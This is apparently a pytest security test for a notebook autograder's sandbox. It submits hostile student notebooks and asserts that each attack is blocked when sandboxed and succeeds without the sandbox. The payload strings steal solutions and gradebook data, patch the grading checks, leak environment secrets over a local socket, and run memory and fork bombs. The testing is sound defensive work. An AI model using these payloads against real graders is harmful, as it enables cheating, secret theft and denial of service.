"""A determined student against ``sme-teach grade`` (issue #18): every attack blocked, each shown to work
without the protection.

One class of a4 is handed in — one student per attack below, plus ``good`` (the solution) and
``wrong`` (the solution with one answer corrupted: the baseline of the patch attacks) — and graded
twice by the real command on two copies of the course, run from inside the course folder so the
grader's working directory is the course (what ``/proc/<ancestor>/cwd`` would reveal):

* **sandboxed**: ``sme-teach grade a4_cluster_spillover`` (the default: bubblewrap and trusted checks);
* **control**: ``sme-teach grade ... --unsafe-no-sandbox`` with nbgrader-style checks
  (``grade(checks="nbgrader")``), i.e. what grading was before: each attack's effect is asserted there,
  so the sandboxed result is the protection's doing, not a broken attack.

========== =============================================================================================
abs_course the first answer cell opens the course's ``source/`` notebook by its absolute path and runs
           the instructor's solution cells
proc_cwd   the same, finding the course through ``/proc/*/cwd`` (the grader's working directories)
classmate  runs the answer cells of ``good``'s submitted notebook (absolute path)
gradebook  opens ``gradebook.db`` (absolute path) and prints what it can read
package    writes a file into the installed ``sme_teach`` package
codepatch  the ``wrong`` answers, and ``expect_frame.__code__`` (and ``_differs``) replaced by no-ops
classpatch the ``wrong`` answers, and ``pandas.Series.to_dict`` patched so every value "equals" any other
history    the solution; its last answer cell prints the kernel's input history (``In``)
environ    the solution; prints ``os.environ`` and tries to read a file this test puts in the grader's home
network    the solution; connects to a TCP listener this test runs on 127.0.0.1
leftover   the solution; starts a detached background process that outlives the notebook
membomb    the solution; prints its resource limits, then allocates memory (touching it) until refused
forkbomb   the solution; forks up to 300 sleeping children
========== =============================================================================================
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import warnings
from pathlib import Path

import nbformat
import pytest

from conftest import REPO

sys.path.insert(0, str(REPO / "tests" / "fixtures"))
import hostile  # noqa: E402
import make_course as mc  # noqa: E402

A = "a4_cluster_spillover"
BIN = Path(sys.executable).parent
TIMEOUT = 20
SECRET = "tok-9f3e1c-grader-secret"
LEFTOVER = "sme-leftover-7d1c"
HOME_PROBE = Path.home() / f".sme-grader-home-{os.getpid()}"  # a file of the grader's home directory
FORKS = 300
pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux namespaces")


def _nbg(cell) -> dict:
    return cell.metadata.get("nbgrader", {})


def _exec_solutions(path_expr: str, key: str) -> str:
    """Code that runs every code cell of the notebook at ``path_expr`` whose nbgrader metadata has ``key``."""
    return f'''\
import json as _json
try:
    _nb = _json.load(open({path_expr}))
    for _cell in _nb["cells"]:
        if _cell["cell_type"] == "code" and _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("{key}"):
            exec("".join(_cell["source"]), globals())
    print("ATTACK WORKED: ran", {path_expr})
except Exception as _e:
    print("attack blocked:", type(_e).__name__, _e)
'''


PROC_CWD = f'''\
import glob as _glob, os as _os
_hits = []
for _p in _glob.glob("/proc/[0-9]*/cwd"):
    try:
        _d = _os.readlink(_p)
    except OSError:
        continue
    for _up in range(6):
        _hits += _glob.glob(_os.path.join(_d, *[".."] * _up, "source", "{A}", "{A}.ipynb"))
print("course notebooks via /proc:", sorted(set(_os.path.realpath(h) for h in _hits)))
''' + _exec_solutions('(_hits or ["/nonexistent"])[0]', "solution")

GRADEBOOK = '''\
import sqlite3 as _sq
try:
    _con = _sq.connect("file:{db}?mode=ro", uri=True)
    _rows = _con.execute("select count(*) from source_cell").fetchone()[0]
    print("ATTACK WORKED: gradebook readable,", _rows, "source cells")
except Exception as _e:
    print("attack blocked:", type(_e).__name__, _e)
'''

PACKAGE = '''\
import os as _os, sme_teach as _s
_target = _os.path.join(_os.path.dirname(_s.__file__), "_pwned_{tag}.py")
try:
    with open(_target, "w") as _f:
        _f.write("PWNED = True\\n")
    print("ATTACK WORKED: wrote", _target)
except OSError as _e:
    print("attack blocked:", type(_e).__name__, _e)
'''

CODEPATCH = '''
import sme_teach.grading._expect as _ge
_noop = lambda *a, **k: None
_ge.expect_frame.__code__ = _noop.__code__
_ge.expect_series.__code__ = _noop.__code__
_ge.expect_value.__code__ = _noop.__code__
_ge._differs.__code__ = (lambda *a, **k: False).__code__
'''

CLASSPATCH = '''
import pandas as _pd
class _Same(float):
    def __float__(self):
        return self
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
_pd.Series.to_dict = lambda self, *a, **k: {key: _Same(0) for key in self.index}
'''

HISTORY = '''
print("HISTORY>>>")
print("\\n".join(str(x) for x in In))
print("<<<HISTORY")
'''

ENVIRON = '''
import os as _os
print("ENV>>>", dict(_os.environ), "<<<ENV")
try:
    print("ATTACK WORKED: home file", open({home!r}).read())
except OSError as _e:
    print("attack blocked: home", type(_e).__name__)
'''

NETWORK = '''
import socket as _socket
try:
    _c = _socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _c.sendall(b"leak from the kernel")
    _c.close()
    print("ATTACK WORKED: connected")
except OSError as _e:
    print("attack blocked:", type(_e).__name__, _e)
'''

LEFTOVER_CODE = f'''
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", "import time; time.sleep(90)", "{LEFTOVER}"], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
print("started a background process")
'''

MEMBOMB = '''
import resource as _r
print("RLIMIT_AS", _r.getrlimit(_r.RLIMIT_AS))
print("LIMITS", {n: _r.getrlimit(getattr(_r, n))[0] for n in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU")})
if _r.getrlimit(_r.RLIMIT_AS)[0] != _r.RLIM_INFINITY:  # never run the bomb where nothing would stop it
    _blocks = []
    try:
        while len(_blocks) < 64:
            _b = bytearray(256 * 2**20)
            _b[::4096] = b"x" * len(range(0, len(_b), 4096))
            _blocks.append(_b)
    except MemoryError:
        pass
    print("MEMBOMB got", len(_blocks) * 256, "MiB")
    del _blocks
'''

FORKBOMB = f'''
import os as _os, time as _time
_n = 0
try:
    while _n < {FORKS}:
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(8)
            _os._exit(0)
        _n += 1
except OSError as _e:
    print("fork refused:", type(_e).__name__)
print("FORKBOMB made", _n, "processes")
'''


def _class_notebooks(course: Path, port: int) -> dict:
    """student -> notebook for every attack, built from the release and source of ``A``."""
    release = nbformat.read(course / "release" / A / f"{A}.ipynb", as_version=4)
    sols = hostile.solutions(course, A)
    q1 = sorted(sols)[0]  # the first answer cell (q1_answer): its corruption costs a hidden test
    wrong = dict(sols)
    wrong[q1] = sols[q1] + '\ncentrality["betweenness"] = 1 - centrality["betweenness"]\n'
    db = course / "gradebook.db"
    code = {
        "good": dict(sols),
        "wrong": wrong,
        "abs_course": {q1: _exec_solutions(repr(str(course / "source" / A / f"{A}.ipynb")), "solution")},
        "proc_cwd": {q1: PROC_CWD},
        "classmate": {q1: _exec_solutions(repr(str(course / "submitted" / "good" / A / f"{A}.ipynb")), "solution")},
        "gradebook": {q1: GRADEBOOK.format(db=db)},
        "package": {q1: PACKAGE.format(tag=os.getpid())},
        "codepatch": {**wrong, q1: CODEPATCH + wrong[q1]},
        "classpatch": {**wrong, q1: CLASSPATCH + wrong[q1]},
        "environ": {**sols, q1: ENVIRON.format(home=str(HOME_PROBE)) + sols[q1]},
        "network": {**sols, q1: NETWORK.format(port=port) + sols[q1]},
        "leftover": {**sols, q1: LEFTOVER_CODE + sols[q1]},
        "membomb": {**sols, q1: MEMBOMB + sols[q1]},
        "forkbomb": {**sols, q1: FORKBOMB + sols[q1]},
    }
    last = sorted(sols)[-1]
    code["history"] = {**sols, last: sols[last] + HISTORY}
    out = {}
    for student, answers in code.items():
        nb = nbformat.reads(nbformat.writes(release), as_version=4)
        for cell in nb.cells:
            if cell.cell_type == "code" and _nbg(cell).get("solution"):
                cell.source = answers.get(_nbg(cell)["grade_id"], "pass")
        out[student] = nb
    return out


class Listener:
    """A TCP listener on 127.0.0.1 that records what connects to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self._stop = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(1000))
            except OSError:
                self.received.append(b"")
            conn.close()

    def take(self) -> list:
        got, self.received = self.received, []
        return got

    def close(self):
        self._stop = True
        self._thread.join(timeout=2)
        self.sock.close()


def _leftovers() -> list[int]:
    pids = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            if LEFTOVER.encode() in (proc / "cmdline").read_bytes():
                pids.append(int(proc.name))
        except OSError:
            pass
    return pids


def _grade(course: Path, *extra) -> subprocess.CompletedProcess:
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}", "SME_GRADER_SECRET": SECRET}
    return subprocess.run([str(BIN / "sme-teach"), "grade", A, "--course", str(course), "--jobs", "2",
                           "--timeout", str(TIMEOUT), "--no-progress", *extra],
                          cwd=str(course), env=env, capture_output=True, text=True, timeout=900)


def _grades(course: Path) -> dict:
    from nbgrader.api import Gradebook

    with warnings.catch_warnings(), Gradebook(f"sqlite:///{course}/gradebook.db", "sme_teach") as gb:
        warnings.simplefilter("ignore")
        return {s.student_id: float(s.score) for s in gb.assignment_submissions(A)}


def _outputs(course: Path, student: str) -> str:
    path = course / "autograded" / student / A / f"{A}.ipynb"
    nb = nbformat.read(path, as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells if c.cell_type == "code"])


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """(sandboxed course, control course, what the listener got in each run, leftovers after each run)."""
    from sme_teach import grading

    base = tmp_path_factory.mktemp("attacks")
    listener = Listener()
    runs = {}
    HOME_PROBE.write_text("grader-home-secret")
    try:
        for kind in ("sandboxed", "control"):
            course = base / kind
            shutil.copytree(REPO / "assignments", course, ignore=shutil.ignore_patterns(
                "release", "submitted", "autograded", "feedback", "gradebook.db", "reports", "grading_log.*",
                ".ipynb_checkpoints"))
            grading.release(A, course, exchange=False)
            for student, nb in _class_notebooks(course, listener.port).items():
                dest = course / "submitted" / student / A
                dest.mkdir(parents=True)
                (dest / "timestamp.txt").write_text("2026-03-01 12:00:00.000000 UTC")
                nbformat.write(nb, dest / f"{A}.ipynb")
            t0 = time.perf_counter()
            # the control: no sandbox, tests in the student's kernel (as nbgrader runs them)
            proc = _grade(course, "--unsafe-no-sandbox", "--checks", "nbgrader") if kind == "control" else _grade(course)
            seconds = time.perf_counter() - t0
            time.sleep(0.5)
            runs[kind] = {"course": course, "proc": proc, "received": listener.take(), "leftovers": _leftovers(),
                          "seconds": seconds}
            for pid in runs[kind]["leftovers"]:
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
        print("\nattack class timings (s):", {k: round(v["seconds"], 1) for k, v in runs.items()})
        yield runs
    finally:
        listener.close()
        HOME_PROBE.unlink(missing_ok=True)
        import sme_teach

        for stray in Path(sme_teach.__file__).parent.glob(f"_pwned_{os.getpid()}.py"):
            stray.unlink()


def test_the_sandboxed_class_is_graded_to_the_end(attacked):
    run = attacked["sandboxed"]
    assert run["proc"].returncode == 0, run["proc"].stdout + run["proc"].stderr
    assert "sandbox: every notebook ran in bubblewrap" in run["proc"].stdout
    assert f"checks of {A}.ipynb: trusted" in run["proc"].stdout
    log = [json.loads(line) for line in (run["course"] / "grading_log.jsonl").read_text().splitlines()]
    assert {r["student"] for r in log} == set(_grades(run["course"]))
    assert all(r["mode"] == "trusted" and r["sandboxed"] for r in log)
    assert "WARNING: graded WITHOUT the sandbox" in attacked["control"]["proc"].stdout
    from sme_teach.grading._report import grading_mode  # what `sme-teach report` prints and report.html shows

    n = len(log)
    assert grading_mode(A, run["course"]) == f"checks: trusted; sandboxed: {n} of {n} submissions"
    assert grading_mode(A, attacked["control"]["course"]).startswith(f"checks: nbgrader; sandboxed: 0 of {n}")


def _full(course):
    return _grades(course)["good"]


@pytest.mark.parametrize("student", ["abs_course", "proc_cwd", "classmate"])
def test_course_files_and_classmates_are_out_of_reach(attacked, student):
    sandboxed, control = attacked["sandboxed"], attacked["control"]
    assert _grades(sandboxed["course"])[student] == 0.0
    out = _outputs(sandboxed["course"], student)
    assert "attack blocked" in out and "ATTACK WORKED" not in out
    # control: the same notebook takes full marks when nothing stops it
    assert _grades(control["course"])[student] == _full(control["course"]) > 0
    assert "ATTACK WORKED" in _outputs(control["course"], student)


def test_proc_shows_no_process_of_the_grader(attacked):
    out = _outputs(attacked["sandboxed"]["course"], "proc_cwd")
    assert "course notebooks via /proc: []" in out
    assert "course notebooks via /proc: []" not in _outputs(attacked["control"]["course"], "proc_cwd")


@pytest.mark.parametrize("student", ["gradebook", "package"])
def test_gradebook_and_installed_package_are_out_of_reach(attacked, student):
    out = _outputs(attacked["sandboxed"]["course"], student)
    assert "attack blocked" in out and "ATTACK WORKED" not in out
    assert "ATTACK WORKED" in _outputs(attacked["control"]["course"], student)


@pytest.mark.parametrize("student", ["codepatch", "classpatch"])
def test_patching_the_checks_changes_no_score(attacked, student):
    sandboxed, control = _grades(attacked["sandboxed"]["course"]), _grades(attacked["control"]["course"])
    assert sandboxed["wrong"] < sandboxed["good"], "the corrupted answer must cost points"
    assert sandboxed[student] == sandboxed["wrong"]
    # control: in the student's kernel the patch buys the points back
    assert control[student] > control["wrong"]


def test_input_history_shows_no_test_in_the_feedback(attacked):
    from sme_teach import grading
    from sme_teach.grading._feedback import hidden_test_lines

    course = attacked["sandboxed"]["course"]
    hidden = hidden_test_lines(course / "source" / A / f"{A}.ipynb")
    assert hidden
    out = _outputs(course, "history")
    assert "HISTORY>>>" in out
    assert not [line for line in hidden if json.dumps(line)[1:-1] in out]
    assert "expect_frame(" not in out.split("HISTORY>>>")[1], "no test cell ran in the student's kernel"
    written = grading.feedback(A, course, student="history")  # raises if a hidden line leaks
    html = written[0].read_text()
    assert "HISTORY&gt;&gt;&gt;" in html or "HISTORY>>>" in html
    assert _grades(course)["history"] == _grades(course)["good"]
    control = _outputs(attacked["control"]["course"], "history")
    assert [line for line in hidden if json.dumps(line)[1:-1] in control], "control: the history shows hidden tests"


def test_the_environment_is_clean(attacked):
    out = _outputs(attacked["sandboxed"]["course"], "environ")
    assert "ENV>>>" in out
    assert SECRET not in out and "SME_GRADER_SECRET" not in out and "/root" not in out.split("ENV>>>")[1]
    assert SECRET in _outputs(attacked["control"]["course"], "environ")


def test_the_graders_home_is_out_of_reach(attacked):
    out = _outputs(attacked["sandboxed"]["course"], "environ")
    assert "attack blocked: home" in out and "grader-home-secret" not in out
    assert "ATTACK WORKED: home file grader-home-secret" in _outputs(attacked["control"]["course"], "environ")


def test_no_network(attacked):
    assert attacked["sandboxed"]["received"] == []
    out = _outputs(attacked["sandboxed"]["course"], "network")
    assert "attack blocked" in out
    assert b"leak from the kernel" in attacked["control"]["received"]
    assert _grades(attacked["sandboxed"]["course"])["network"] == _grades(attacked["sandboxed"]["course"])["good"]


def _log_notes(course: Path, student: str) -> str:
    records = [json.loads(line) for line in (course / "grading_log.jsonl").read_text().splitlines()]
    return "; ".join(n for r in records if r["student"] == student for n in r.get("notes") or [])


def test_no_process_outlives_its_notebook(attacked):
    assert attacked["sandboxed"]["leftovers"] == []
    assert attacked["control"]["leftovers"], "control: the detached process survives grading"
    # killed when its notebook was done (not only when the grader exits and bwrap's namespace goes)
    assert "still running after it; killed" in _log_notes(attacked["sandboxed"]["course"], "leftover")
    assert "still running after it" not in _log_notes(attacked["sandboxed"]["course"], "good")


def test_memory_and_fork_bombs_are_stopped(attacked):
    course = attacked["sandboxed"]["course"]
    grades = _grades(course)
    mem = _outputs(course, "membomb")
    got = int(mem.split("MEMBOMB got ")[1].split(" ")[0])
    assert got < 4096, f"the memory bomb got {got} MiB"
    fork = _outputs(course, "forkbomb")
    made = int(fork.split("FORKBOMB made ")[1].split(" ")[0])
    assert "fork refused" in fork and made < 100, fork
    assert grades["membomb"] == grades["forkbomb"] == grades["good"]
    # the other limits of the What-to-build list, as the kernel sees them (values from _sandbox.Limits)
    from sme_teach.grading._sandbox import Limits

    limits = ast.literal_eval(mem.split("LIMITS ")[1].split("}")[0] + "}")
    assert limits["RLIMIT_FSIZE"] == Limits().file_bytes and limits["RLIMIT_CPU"] == Limits().cpu_seconds
    assert 0 < limits["RLIMIT_NPROC"] < 10_000
    # control: nothing limits either (the bomb itself only runs where a limit would stop it)
    control = _outputs(attacked["control"]["course"], "membomb")
    assert "RLIMIT_AS [-1, -1]" in control or "RLIMIT_AS (-1, -1)" in control
    assert "'RLIMIT_FSIZE': -1" in control and "'RLIMIT_CPU': -1" in control
    assert f"FORKBOMB made {FORKS} processes" in _outputs(attacked["control"]["course"], "forkbomb")


MPL_WRITER = '''
import os as _os
import matplotlib.font_manager as _fm
_dir = _os.environ["MPLCONFIGDIR"]  # config and font cache the next kernel would read
with open(_os.path.join(_dir, "matplotlibrc"), "w") as _f:
    _f.write("text.usetex: True\\n")
with open(_os.path.join(_dir, f"fontlist-v{_fm.FontManager.__version__}.json"), "w") as _f:
    _f.write('{"poisoned": "by a_writer"}')
print("wrote into", _dir)
'''
MPL_READER = '''
import os as _os
_dir = _os.environ["MPLCONFIGDIR"]
_names = sorted(_os.listdir(_dir))
print("MPLDIR", _names, [open(_os.path.join(_dir, _n)).read()[:40] for _n in _names], "MPLDIR")
'''


def test_a_notebook_leaves_nothing_for_the_next_one_in_its_worker(tmp_path):
    """matplotlib's config folder is the one writable place outside the staging folder that the next
    kernel of the same worker reads: a classmate graded after ``a_writer`` must not find its files."""
    from sme_teach import grading

    course = mc.build_course(tmp_path / "course")
    grading.release(mc.ASSIGNMENT, course, exchange=False)
    solution = {c.metadata["nbgrader"]["grade_id"]: c.source for c in mc.source_notebook().cells
                if "nbgrader" in c.metadata}["q1_share"]
    mc.write_submission(course, "a_writer", {**mc.SOLVED, "q1_share": solution + "\n" + MPL_WRITER})
    mc.write_submission(course, "b_reader", {**mc.SOLVED, "q1_share": solution + "\n" + MPL_READER})
    run = grading.grade(mc.ASSIGNMENT, course, jobs=1, timeout=TIMEOUT, progress=False)  # one worker, in order
    assert not run.failed, run.summary()
    assert "wrote into" in _outputs_of(course, "a_writer", mc.ASSIGNMENT)
    seen = _outputs_of(course, "b_reader", mc.ASSIGNMENT).split("MPLDIR")[1]
    assert "matplotlibrc" not in seen and "poisoned" not in seen, seen
    assert "fontlist-v" in seen, "the grader's font cache is there again (else every kernel rebuilds it)"


def _outputs_of(course: Path, student: str, assignment: str) -> str:
    nb = nbformat.read(course / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells if c.cell_type == "code"])
